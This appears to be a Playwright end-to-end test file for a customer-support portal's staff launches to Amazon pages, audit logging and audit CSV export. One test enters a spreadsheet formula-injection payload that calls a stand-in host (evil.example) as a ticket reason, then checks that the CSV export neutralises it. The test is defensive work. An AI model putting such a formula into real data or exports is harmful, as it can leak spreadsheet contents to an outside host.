import { readFileSync } from "node:fs";
import { buildWebsiteLinks, getPortalUrl } from "./support/addresses";
import { watchAudit, withoutAudit } from "./support/audit";
import { addReachable } from "./support/code-steps";
import { addCustomer, addSession, makeSessionCookie, removeCustomer } from "./support/database";
import {
  buildCardPath,
  buildCustomerPath,
  buildHandedLink,
  expectUnrecorded,
  getCustomerRow,
  getReasonField,
  getSearchBox,
  openHere,
  prepareCustomer,
  pressCard,
} from "./support/desk-steps";
import { expect, test } from "./support/fixtures";
import { listMailsTo, resetMailbox } from "./support/mailbox";
import { findDeviceId, query } from "./support/records";
import { expectAt, expectBackOn, getCard, getHeading, pressExit, signInAtAmazon } from "./support/steps";

const sam = { who: "Sam Okafor", role: "support" };
const staffLaunches = () => query<{ id: string; customer_id: string }>("select * from staff_launches");

test("staff open a card with a reason, and Exit leads back to the customer", async ({
  page,
  context,
  signIn,
  listArrivedLinks,
}) => {
  const customer = await prepareCustomer("hana", "JP", "en-US");
  const device = "リビングの空気清浄機";
  const deviceId = await findDeviceId("hana", device);
  const { supplies } = buildWebsiteLinks("FE", "HB-BREEZE-3");
  await signIn(page, "Sam Okafor");
  const [own] = (await context.cookies(getPortalUrl())).filter(({ name }) => name === "larder.session");
  const asSam = () => context.addCookies([makeSessionCookie(own?.value ?? "")]);

  // The customer used this browser before and left an Amazon page open.
  const token = await addSession(customer);
  await context.addCookies([makeSessionCookie(token)]);
  await page.goto(buildHandedLink(deviceId, "settings"));
  await getCard(page, "settings").click();
  await signInAtAmazon(page);
  await asSam();
  const theirs = async () => [
    await query("select * from sessions where customer_id = $1", [customer.id]),
    await query("select * from launches where customer_id = $1", [customer.id]),
  ];
  const before = await theirs();
  expect(before.map(({ length }) => length > 0)).toEqual([true, true]);

  await page.goto(buildCustomerPath(customer));
  await pressCard(page, device, "supplies");
  await expect(
    page.getByText(
      "You’ll see the Amazon account that this browser is signed in to, not the customer’s. Never ask for a customer’s Amazon password or code.",
    ),
  ).toBeVisible();
  const recorded = await watchAudit();
  const [launchesBefore, arrivedBefore] = [await staffLaunches(), await listArrivedLinks()];
  const asked = await openHere(page, " \u3000\t ");
  await expect(asked.getByRole("main").getByRole("alert")).toHaveText(
    "Enter why you’re opening this page, or a ticket number. Nothing was opened.",
  );
  await expect(getReasonField(asked)).toHaveAttribute("aria-invalid", "true");
  // Only showing the page again is recorded.
  expect((await recorded()).map(({ event }) => event)).toEqual(["card.viewed"]);
  expect(await staffLaunches()).toEqual(launchesBefore);
  expect(await listArrivedLinks()).toEqual(arrivedBefore);
  await asked.close();

  const amazon = await openHere(page, "Ticket 4711: orders nothing");
  await expectAt(amazon, supplies);
  await expect(getHeading(amazon)).toHaveText("Supply tracking");
  await expectAt(page, getPortalUrl() + buildCardPath(customer, deviceId));
  const [launch] = (await staffLaunches()).filter(({ id }) => !launchesBefore.some((each) => each.id === id));
  const about = { ...sam, about: [customer.id] };
  const details = { deviceId, card: "supplies", launchId: launch?.id };
  expect(await recorded()).toMatchObject([
    { event: "launch.opened", ...about, details, reason: "Ticket 4711: orders nothing" },
  ]);

  await pressExit(amazon);
  await expectAt(amazon, `${getPortalUrl()}${buildCustomerPath(customer)}?back=${launch?.id}`);
  await expect(getHeading(amazon)).toHaveText("佐藤 花");
  await expect(amazon.getByRole("status").first()).toHaveText(
    `Back from Amazon. You opened Supply tracking for 佐藤 花 (hana).Device: ${device}`,
  );
  expect(await recorded()).toMatchObject([
    { event: "launch.returned", ...about, details, reason: null },
    { event: "customer.viewed", ...about },
  ]);
  const timeline = amazon.getByRole("region", { name: "Timeline" }).getByRole("listitem");
  await expect(timeline.filter({ hasText: "Opened by staff" }).first()).toContainText(
    "Ticket 4711: orders nothing",
  );

  expect(await theirs(), "the customer’s sessions and launches").toEqual(before);
  await context.addCookies([makeSessionCookie(token)]);
  await page.goto("/return");
  await expectBackOn(page, deviceId, device, "settings");
});

test("after pages of two customers, one Exit names both", async ({ page, signIn }) => {
  const customers = [
    { ...(await prepareCustomer("emily", "US", "en-US")), device: "Kitchen printer", number: "emily" },
    { ...(await prepareCustomer("jonas", "DE", "de")), device: "Drucker im Flur", number: "jonas" },
  ];
  await signIn(page, "Sam Okafor");
  let amazon = page;
  for (const customer of customers) {
    await page.goto(buildCardPath(customer, await findDeviceId(customer.number, customer.device)));
    amazon = await openHere(page, "Ticket 12");
    await signInAtAmazon(amazon);
    await expect(getHeading(amazon)).toHaveText("Supply tracking");
  }
  const recorded = await watchAudit();
  await pressExit(amazon);
  await expect(amazon).toHaveURL(/\/support\?back=[0-9a-f-]{36}$/);
  const notice = amazon.getByRole("status").filter({ hasText: "Back from Amazon." });
  await expect(notice).toContainText("Back from Amazon. You opened pages for several customers.");
  for (const { name, number, device } of customers) {
    const trip = notice.getByRole("listitem").filter({ hasText: name });
    await expect(trip.getByRole("link")).toHaveText(`Supply tracking for ${name} (${number})`);
    await expect(trip).toContainText(`Device: ${device}`);
  }
  const [latest, first] = [customers[1]?.id, customers[0]?.id];
  const events = (await recorded()).map(({ event, about }) => [event, new Set(about)]);
  expect(events).toEqual([
    ["launch.returned", new Set([latest])],
    ["launch.returned", new Set([first])],
    // The page names both customers.
    ["customers.searched", new Set([latest, first])],
  ]);
  await notice.getByRole("link", { name: "Emily Carter" }).click();
  await expect(getHeading(amazon)).toHaveText("Emily Carter");
});

test("a customer deleted in the meantime is reported as gone, on every click", async ({ page, signIn }) => {
  await signIn(page, "Sam Okafor");
  const expectGone = async (on = page) => {
    await expect(getHeading(on)).toHaveText("This customer is no longer here");
    await expect(
      on.getByText("They may have deleted their account and data since you searched"),
    ).toBeVisible();
  };
  const ways: [string, () => Promise<void>][] = [
    ["a page", () => page.getByRole("link", { name: "Show QR" }).click()],
    ["a mail", () => page.getByRole("button", { name: "Send by e-mail" }).click()],
    ["opening", async () => expectGone(await openHere(page, "Ticket 13"))],
  ];
  for (const [what, press] of ways) {
    const customer = await addReachable("Gesine Gone", "DE", ["HB-BREW-2"]);
    await page.goto(buildCardPath(customer, customer.devices[0] ?? ""));
    await removeCustomer(customer);
    await test.step(what, press);
    if (what !== "opening") await expectGone();
  }

  const customer = await addCustomer("Gesine Vanishing", "DE", ["HB-BREW-2"]);
  await page.goto("/support");
  await getSearchBox(page).fill("gesine vanishing");
  await expect(getCustomerRow(page, customer)).toBeVisible();
  await removeCustomer(customer);
  const answer = page.waitForResponse((response) => response.url().endsWith(buildCustomerPath(customer)));
  await getCustomerRow(page, customer).click();
  expect((await answer).status()).toBe(200);
  await expectGone();
  await page.getByRole("link", { name: "Find a customer" }).last().click();
  await expectAt(page, `${getPortalUrl()}/support`);
});

test("nothing is shown, sent or opened that cannot be recorded", async ({
  page,
  signIn,
  expected,
  listArrivedLinks,
}) => {
  // Handlers use an error status; pages keep theirs.
  expected.faults.push(/status of 503/);
  await resetMailbox();
  const customer = await addReachable("Ulla Unrecorded", "DE", ["HB-BREW-2"]);
  const device = customer.devices[0] as string;
  await signIn(page, "Sam Okafor");
  const card = buildCardPath(customer, device);
  await page.goto(card);
  const [before, recorded] = [await staffLaunches(), await watchAudit()];
  const jobs = () => query("select id from pgboss.job where data->>'customerId' = $1", [customer.id]);

  await withoutAudit(async () => {
    const popup = await openHere(page, "Ticket 14");
    await expectUnrecorded(popup);
    await popup.close();
    await page.getByRole("button", { name: "Send by e-mail" }).click();
    await expectUnrecorded(page);

    for (const path of [
      buildCustomerPath(customer),
      card,
      `${card}&show=qr`,
      `${card}&show=link`,
      "/support?q=ulla+unrecorded",
    ]) {
      const answer = await page.goto(path);
      expect(answer?.status(), path).toBe(200);
      await expectUnrecorded(page);
      const html = await page.content();
      expect(html, path).not.toContain("Ulla Unrecorded");
      expect(html, path).not.toContain(customer.email);
      await expect(page.getByRole("img", { name: /^QR code/ }), path).toHaveCount(0);
    }
  });
  expect(await recorded()).toEqual([]);
  expect(await staffLaunches()).toEqual(before);
  expect(await listArrivedLinks()).toEqual([]);
  expect(await jobs()).toEqual([]);
  expect(await listMailsTo(customer.email)).toEqual([]);

  await page.goto(card);
  await expect(page.getByText(customer.email)).toBeVisible();
});

/** Parses CSV (RFC 4180) into rows. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (quoted === undefined && plain === "" && end === "") break;
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") rows.push([]);
  }
  return rows.filter(({ length }) => length > 0);
}

test("an administrator finds what was opened, and the CSV neutralises its formula", async ({
  page,
  signIn,
  expected,
  newContext,
}) => {
  expected.faults.push(/"12\/2026" does not conform to the required format/);
  const formula = '=HYPERLINK("https://evil.example?"&A1,"Ticket")';
  const customer = await addCustomer("Freya Formula", "DE", ["HB-BREW-2"]);
  const desk = await (await newContext()).newPage();
  await signIn(desk, "Sam Okafor");
  await desk.goto(buildCardPath(customer, customer.devices[0] ?? ""));
  const amazon = await openHere(desk, formula);
  await signInAtAmazon(amazon);

  await signIn(page, "Ada Lindqvist");
  await page.getByRole("link", { name: "Audit", exact: true }).click();
  await expectAt(page, `${getPortalUrl()}/admin/audit`);
  const recorded = await watchAudit();
  const events = page
    .getByRole("table")
    .getByRole("row")
    .filter({ has: page.getByRole("cell") });
  await page.getByLabel("Who", { exact: true }).selectOption("Sam Okafor");
  await page.getByLabel("What", { exact: true }).selectOption("Opened a page at Amazon");
  await page.getByLabel("Customer").fill(customer.subject);
  await page.getByRole("button", { name: "Show", exact: true }).click();
  await expect(events).toHaveCount(1);
  for (const words of ["Sam Okafor", "Opened a page at Amazon", "Supply tracking", "Freya Formula", formula])
    await expect(events).toContainText(words);
  const ada = { who: "Ada Lindqvist", role: "admin" };
  expect(await recorded()).toMatchObject([{ event: "audit.viewed", ...ada }]);

  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: "Download as CSV" }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^audit-\d{4}-\d\d-\d\d\.csv$/);
  const text = readFileSync(await file.path(), "utf8");
  expect(text.startsWith("\ufeff")).toBe(true);
  const [head = [], ...rows] = readCsv(text.slice(1));
  expect(rows).toHaveLength(1);
  const row = Object.fromEntries(head.map((name, index) => [name, rows[0]?.[index]]));
  expect(row).toMatchObject({
    ...{ event: "launch.opened", actor_name: "Sam Okafor", actor_role: "support" },
    ...{ customer_ids: customer.id, customer_numbers: customer.subject, customer_names: "Freya Formula" },
    ...{ card: "supplies", reason: `'${formula}` },
  });
  expect(await recorded()).toMatchObject([{ event: "audit.exported", ...ada }]);

  await page.goto("/admin/audit?from=12/2026");
  await expect(page.getByText("“12/2026” is not a date. Write it like this: 2026-12-31.")).toBeVisible();
  await withoutAudit(async () => {
    await page.goto("/admin/audit");
    await expectUnrecorded(page);
    await expect(events).toHaveCount(0);
  });
});

test("staff who come from a CRM open the customer, and their ticket is the reason", async ({
  page,
  signIn,
  newContext,
}) => {
  const customer = await addReachable("Cora Crm", "DE", ["HB-BREW-2"]);
  const number = `K-${customer.subject}`;
  await query("insert into external_ids values ('crm', $1, $2)", [number, customer.id]);
  await signIn(page, "Sam Okafor");
  await page.goto(`/support/find?number=${number}&source=crm&ticket=Ticket%204711`);
  await expect(page.getByText("Number in crm")).toBeVisible();
  await expect(page.getByText(number, { exact: true })).toBeVisible();
  await pressCard(page, "Cora Crm, device 1", "supplies");
  await expect(getReasonField(page)).toHaveValue("Ticket 4711");
  const popup = page.waitForEvent("popup");
  await page.getByRole("button", { name: "Open here in a new tab" }).click();
  await popup;
  expect(
    await query(
      "select reason from audit_notes join audit_events on id = event_id where $1 = any(customer_ids) and event = 'launch.opened'",
      [customer.id],
    ),
  ).toEqual([{ reason: "Ticket 4711" }]);
  await page.goto(`/support/find?number=nobody-${customer.subject}`);
  await expect(getSearchBox(page)).toHaveValue(`nobody-${customer.subject}`);

  // Signed out, they sign in first.
  const other = await (await newContext()).newPage();
  await other.goto(`${getPortalUrl()}/support/find?number=${number}`);
  await expect(other).toHaveURL(/\/sign-in\?callbackUrl=/);
});

test("an administrator settles a value that an upgrade set aside", async ({ page, signIn }) => {
  const value = `toner-${Date.now()}`;
  await query(
    "insert into data_faults (kind, subject, field, value) values ('slot', 'M-1 Ink', 'supply', $1)",
    [value],
  );
  await signIn(page, "Ada Lindqvist");
  await page.goto("/admin/models");
  await page.getByRole("link", { name: /^\d+ values? to check$/ }).click();
  const row = page.getByRole("row").filter({ hasText: value });
  await expect(row).toContainText("Supply M-1 Ink");
  await row.getByRole("button", { name: "Done" }).click();
  await expect(page.getByRole("status")).toContainText("Marked as done.");
  await expect(row).toHaveCount(0);
});
